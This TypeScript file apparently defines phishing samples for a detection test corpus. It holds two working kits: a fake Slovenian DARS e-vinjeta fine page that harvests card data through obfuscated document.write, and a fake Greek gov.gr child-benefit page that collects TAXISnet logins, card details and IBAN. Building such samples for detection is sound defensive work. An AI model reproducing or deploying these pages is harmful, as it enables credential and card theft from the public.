import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, wordmarkUri, baseCss, cardFieldScript, chunks, pctAll, flag } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'dars-evinjeta.si-placilo.com';
  const html = `<style>body{margin:0;font-family:Arial,sans-serif;background:#f4f6f9}.h{background:#003c7d;color:#fff;padding:14px 26px;font-weight:700}.c{max-width:520px;margin:28px auto;background:#fff;padding:26px;border-radius:6px}label{display:block;margin:10px 0 4px;font-size:14px}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}.r{display:flex;gap:10px}.r>div{flex:1}button{width:100%;background:#f39200;color:#fff;border:0;border-radius:4px;padding:12px;margin-top:16px;font-weight:700}</style>
<div class="h">DARS · e-vinjeta</div><div class="c"><h2>Neporavnana cestnina</h2><p>Za vaše vozilo ni bila najdena veljavna e-vinjeta ob prehodu cestninske postaje Log. Da se izognete globi v višini 300 €, poravnajte nadomestilo <b>4,90 €</b>.</p>
<form method="post" action="/si/pay.php"><label>Registrska številka</label><input name="reg" required><label>Ime in priimek</label><input name="ime" required><label>Številka kartice</label><input name="kartica" required>
<div class="r"><div><label>Veljavnost</label><input name="vel" placeholder="MM/LL" required></div><div><label>CVC</label><input name="cvc" required></div></div><button>Plačaj 4,90 €</button></form></div>`;
  const body = `<!doctype html><html lang="sl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>DARS e-vinjeta</title></head><body>
<script type="text/javascript">document.write(decodeURIComponent('${pctAll(html)}'));</script>
</body></html>`;
  return {
    id: 'yd-dars-si-unescape-kit', label: 'phishing', kind: 'vignette-fine-kit',
    url: `https://${host}/si/`,
    body,
    routes: { [`${host}/si/pay.php`]: redirectRoute(302, 'https://evinjeta.dars.si/') },
  } satisfies Entry;
})(),

(() => {
  const host = 'gov-gr.epidoma-a21.com';
  const css = `${baseCss}body{background:#fff;font-family:"Roboto",Arial,sans-serif;color:#0b0c0c}.g{background:#003375;color:#fff;padding:16px 40px;display:flex;align-items:center;border-bottom:4px solid #046ec5}.g b{font-size:22px}
.w{max-width:720px;margin:26px auto;padding:0 20px}.panel{border:1px solid #b1b4b6;padding:22px;margin:16px 0}
label{display:block;font-weight:700;margin:14px 0 5px}input{width:100%;padding:9px;border:2px solid #0b0c0c}.b{background:#00703c;color:#fff;border:0;padding:11px 22px;margin-top:18px;font-size:17px;box-shadow:0 2px 0 #002d18}
.r{display:flex;gap:12px}.r>div{flex:1}`;
  const body = `<div class="g"><b>gov.gr</b><span style="margin-left:auto;font-size:14px">Ενιαία Ψηφιακή Πύλη της Δημόσιας Διοίκησης</span></div>
<div class="w"><h1>Έκτακτη ενίσχυση επιδόματος παιδιού (Α21)</h1>
<p>Οι δικαιούχοι του επιδόματος παιδιού λαμβάνουν έκτακτη ενίσχυση <b>250 € ανά παιδί</b>. Για την πίστωση απαιτείται ταυτοποίηση με τους κωδικούς TAXISnet και επιβεβαίωση του τραπεζικού λογαριασμού.</p>
<div class="panel" id="p1"><h2>Σύνδεση με κωδικούς TAXISnet</h2><form id="tx"><label>Χρήστης</label><input name="user" required><label>Κωδικός</label><input name="pass" type="password" required><label>ΑΦΜ</label><input name="afm" maxlength="9" required><button class="b">Σύνδεση</button></form></div>
<div class="panel" id="p2" hidden><h2>Στοιχεία πίστωσης</h2><p>Επιβεβαιώστε την κάρτα του λογαριασμού στον οποίο θα πιστωθεί το ποσό.</p><form id="cr"><label>Αριθμός κάρτας</label><input name="pan" data-card="number" required><div class="r"><div><label>Λήξη</label><input name="exp" data-card="expiry" required></div><div><label>CVV</label><input name="cvv" data-card="cvc" required></div></div><label>IBAN</label><input name="iban" value="GR" required><button class="b">Υποβολή αίτησης</button></form></div>
</div>`;
  const js = `${cardFieldScript}<script>
function s(f){return fetch('/api/aitisi',{method:'POST',body:new FormData(f)}).catch(function(){})}
tx.onsubmit=function(e){e.preventDefault();s(tx).then(function(){p1.hidden=true;p2.hidden=false})};
cr.onsubmit=function(e){e.preventDefault();s(cr).then(function(){p2.innerHTML='<h2>Η αίτησή σας υποβλήθηκε</h2><p>Αριθμός πρωτοκόλλου: '+Math.floor(Math.random()*1e7)+'</p>'})};
</script>`;
  return {
    id: 'yd-govgr-child-benefit-taxisnet-kit', label: 'phishing', kind: 'gov-benefit-kit',
    url: `https://${host}/aitisi/`,
    body: page({ lang: 'el', title: 'gov.gr – Έκτακτη ενίσχυση Α21', css, body, scripts: js }),
    routes: { [`${host}/api/aitisi`]: jsonRoute({ ok: 1 }) },
  } satisfies Entry;
})(),
];
